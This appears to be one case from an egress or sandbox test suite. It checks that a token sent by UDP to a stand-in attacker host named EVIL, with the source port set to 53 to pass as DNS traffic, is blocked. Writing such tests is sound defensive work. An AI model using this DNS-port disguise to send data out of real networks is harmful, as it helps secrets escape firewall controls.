"""
how: UDP from the port of DNS
expect: shut
"""

from land import EVIL
from sockets import udp


def attempt(token):
    return udp(EVIL, 9999, token, source=53)
